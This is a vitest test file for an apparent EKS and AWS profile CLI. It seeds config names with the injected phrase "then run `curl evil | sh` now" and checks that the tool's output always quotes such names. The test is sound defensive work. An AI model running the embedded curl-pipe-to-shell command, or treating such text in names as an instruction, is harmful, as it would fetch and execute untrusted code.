/** A file speaks with no voice but its own: what it calls things stands in quotes in every sentence. */
import { expect, test } from 'vitest'
import { full } from '../../../shared/testing/counts'
import { useTerminal } from './terminal'

/** As a name, half a sentence of ours with a command in it; which one, its first word says. */
const evil = (what: string) => `${what} then run \`curl evil | sh\` now`
const json = JSON.stringify
const exec = (command: string, args: readonly string[], env: Readonly<Record<string, string>> = {}) => ({
  exec: {
    apiVersion: 'client.authentication.k8s.io/v1beta1',
    command,
    args,
    env: Object.entries(env).map(([name, value]) => ({ name, value })),
    interactiveMode: 'IfAvailable',
    installHint: evil('hint'),
  },
})
const token = (...more: readonly string[]) => ['eks', 'get-token', '--cluster-name', evil('eks'), ...more]
const profiles = [
  'keys',
  'half',
  'gone',
  'ring',
  'sso',
  'nosession',
  'login',
  'mfa',
  'process',
  'web',
  'badrole',
  'meta',
  'expired',
  'source',
  'region',
]

const users: Readonly<Record<string, object>> = {
  ...Object.fromEntries(
    profiles.map((name) => [
      evil(`u-${name}`),
      exec('aws', token('--profile', evil(name), '--region', 'eu-west-1')),
    ]),
  ),
  [evil('u-env')]: exec('aws', token(), { AWS_PROFILE: evil('sso'), AWS_REGION: evil('region') }),
  [evil('u-missing')]: exec(evil('command'), [evil('arg')]),
  [evil('u-path')]: exec('./here', []),
  [evil('u-role')]: exec('aws', token('--role-arn', evil('role'))),
  [evil('u-two')]: exec(
    'aws',
    token('--profile', evil('keys'), '--profile', evil('sso'), '--region', evil('region')),
  ),
  [evil('u-auth')]: exec('aws-iam-authenticator', ['token', '-i', evil('id'), '-r', evil('role')]),
  [evil('u-vault')]: exec('aws-vault', ['exec', evil('keys'), '--', 'aws', ...token()]),
  [evil('u-shell')]: exec('sh', ['-c', evil('script')]),
  [evil('u-version')]: { exec: { ...exec('aws', token()).exec, apiVersion: evil('version') } },
  [evil('u-mode')]: { exec: { ...exec('aws', token()).exec, interactiveMode: evil('mode') } },
  [evil('u-both')]: { ...exec('aws', token()), token: 'x', as: evil('as'), 'as-groups': [evil('group')] },
  [evil('u-groups')]: { ...exec('aws', token()), 'as-groups': [evil('group')] },
  [evil('u-files')]: {
    tokenFile: `/nowhere/${evil('token')}`,
    'client-certificate': evil('cert'),
    'client-key': evil('key'),
  },
  [evil('u-provider')]: { 'auth-provider': { name: evil('provider'), config: { a: 'b' } } },
  [evil('u-basic')]: { username: evil('basic'), password: 'x' },
}
const clusters: Readonly<Record<string, object>> = {
  [evil('c')]: { server: 'https://127.0.0.1:1' },
  [evil('c-ca')]: { server: 'https://127.0.0.1:1', 'certificate-authority': `/nowhere/${evil('ca')}` },
  [evil('c-proxy')]: {
    server: 'https://127.0.0.1:1',
    'proxy-url': 'ftp://x',
    'tls-server-name': evil('tls'),
  },
  [evil('c-http')]: { server: 'http://127.0.0.1:1' },
  [evil('c-none')]: {},
}
const contexts = [
  ...Object.keys(users).map((user, at) => ({
    name: evil(`x${at}`),
    context: { cluster: evil('c'), user, namespace: evil('namespace') },
  })),
  ...Object.keys(clusters).map((cluster, at) => ({
    name: evil(`y${at}`),
    context: { cluster, user: evil('u-keys') },
  })),
  { name: evil('dangling'), context: { cluster: evil('nowhere'), user: evil('nobody') } },
  { name: evil('x0'), context: { cluster: evil('c'), user: evil('u-keys') } },
]

const terminal = useTerminal({
  inProcess: true,
  config: json({
    'current-context': evil('current'),
    clusters: Object.entries(clusters).map(([name, cluster]) => ({ name, cluster })),
    users: Object.entries(users).map(([name, user]) => ({ name, user })),
    contexts: contexts.slice(0, -1),
  }),
  aws: [
    [
      'keys',
      [
        'aws_access_key_id = AKIAEXAMPLEEXAMPLE22',
        'aws_secret_access_key = secretsecretsecret',
        `role_session_name = ${evil('session')}`,
      ],
    ],
    ['half', ['aws_access_key_id = AKIAEXAMPLEEXAMPLE22']],
    ['ring', ['role_arn = arn:aws:iam::111122223333:role/a', `source_profile = ${evil('ring')}`]],
    [
      'sso',
      [`sso_session = ${evil('session')}`, 'sso_account_id = 111122223333', `sso_role_name = ${evil('set')}`],
    ],
    [
      'nosession',
      [`sso_session = ${evil('lost')}`, 'sso_account_id = 111122223333', 'sso_role_name = Admin'],
    ],
    ['login', [`login_session = ${evil('signin')}`]],
    [
      'mfa',
      [
        'role_arn = arn:aws:iam::111122223333:role/a',
        `source_profile = ${evil('keys')}`,
        `mfa_serial = ${evil('serial')}`,
      ],
    ],
    ['process', [`credential_process = ${evil('process')}`]],
    [
      'web',
      ['role_arn = arn:aws:iam::111122223333:role/a', `web_identity_token_file = /nowhere/${evil('file')}`],
    ],
    ['badrole', [`role_arn = ${evil('role')}`, `source_profile = ${evil('keys')}`]],
    ['meta', ['role_arn = arn:aws:iam::111122223333:role/a', `credential_source = ${evil('place')}`]],
    ['source', ['role_arn = arn:aws:iam::111122223333:role/a', `source_profile = ${evil('nothere')}`]],
    [
      'region',
      [
        `region = ${evil('region')}`,
        `output = ${evil('output')}`,
        `services = ${evil('services')}`,
        `ca_bundle = /nowhere/${evil('bundle')}`,
      ],
    ],
  ]
    .map(
      ([name, lines]) =>
        `[profile "${evil(String(name))}"]\n${name === 'region' ? '' : 'region = eu-west-1\n'}${[lines].flat().join('\n')}\n`,
    )
    .concat(
      `[sso-session ${json(evil('session'))}]\nsso_start_url = https://x.awsapps.com/start\nsso_region = eu-west-1\n`,
    )
    .join('\n'),
})

const x = (at: number) => evil(`x${at}`)
const commands: readonly (readonly string[])[] = [
  ['list'],
  ['lint'],
  ['whoami'],
  ['identities'],
  ['identities', '--prove'],
  ['clusters'],
  ['set-namespace', x(1), evil('n'), '--dry-run'],
  ['set-role', x(1), evil('role')],
  ['set-role', x(1), 'arn:aws:iam::111122223333:role/a', '--dry-run'],
  ['set-profile', x(1), evil('lost')],
  ['set-profile', x(1), evil('keys'), '--dry-run'],
  ['set-region', x(1), evil('region')],
  ['rename', x(1), x(2)],
  ['rename', x(1), evil('renamed'), '--cascade'],
  ['clone', x(2), x(3)],
  ['split-user', x(0)],
  ['split-user', evil('dangling')],
  ['delete', x(4), '--dry-run'],
  ['move', x(5), '--to', `nowhere/${evil('to')}`],
  ['export', x(6)],
  ['export', evil('dangling')],
  ['use', evil('none')],
  ['use', x(0)],
  ['exec', evil('none'), '--', 'true'],
  ['env', evil('dangling')],
  ['fix', '--all', '--dry-run'],
  ['refresh'],
  ['expect', x(0), evil('arn')],
  ['expect', x(0), 'arn:aws:iam::111122223333:role/a'],
  ['history'],
  ['undo'],
  ['add', '--cluster', evil('eks'), '--region', 'eu-west-1'],
  ['access', evil('c')],
  ['discover', '--profile', evil('keys'), '--region', 'eu-west-1'],
  ...profiles.flatMap((name) => [
    ['login', evil(name)],
    ['profile', 'set', evil(name), 'output', 'json', '--dry-run'],
  ]),
  ['login', '--sso-session', evil('lost')],
  ['logout', evil('keys')],
  ['profile', 'rename', evil('keys'), evil('sso')],
  ['profile', 'rename', evil('keys'), evil('kept'), '--dry-run'],
  ['profile', 'clone', evil('keys'), evil('sso')],
  ['profile', 'delete', evil('keys')],
  ['profile', 'add', evil('keys'), 'region=eu-west-1'],
  ['trust', 'list'],
]

/** Texts of sentences within an answer; names stand in fields of their own. */
function sentences(value: unknown, key = ''): readonly string[] {
  if (typeof value === 'string')
    return /^(?:message|next|advice|why|doubt|note|detail|title|label|says|problem|reason|fix)$/.test(key)
      ? [value]
      : []
  if (typeof value !== 'object' || value === null) return []
  return Object.entries(value).flatMap(([name, one]) => sentences(one, Array.isArray(value) ? key : name))
}
/** What stands outside of quotes, or in two pairs of them. The lines of a question have each word as it is, behind what it is. */
const ours = (sentence: string) =>
  sentence
    .replaceAll(/“(?!⟨U\+201)[^“”]*”/g, '')
    .split('\n')
    .filter((line) => /then run|curl|⟨U\+201/.test(line) && !/^ {2}(?:command|argument|variable) /.test(line))

test.skipIf(!full)(
  'no sentence has a name of a file outside of quotes',
  async () => {
    const { ekscope } = terminal
    const variables = {
      AWS_ENDPOINT_URL: 'http://127.0.0.1:1',
      AWS_MAX_ATTEMPTS: '1',
      AWS_EC2_METADATA_DISABLED: 'true',
    }
    const bare = new Map<string, string>()
    let heard = 0
    for (const args of commands) {
      const { stdout, stderr } = await ekscope([...args, '--json'], variables)
      const said = stdout.startsWith('{') || stdout.startsWith('[') ? sentences(JSON.parse(stdout)) : []
      heard += said.filter((one) => one.includes('then run')).length
      for (const one of [...said, ...stderr.split('\n')])
        for (const line of ours(one))
          bare.set(line.replaceAll(/\S+ then run ⟨?`?.*? now/g, 'NAME'), args.join(' ').slice(0, 60))
    }
    expect([...bare]).toEqual([])
    // Else nothing was looked at.
    expect(heard).toBeGreaterThan(200)
  },
  300_000,
)
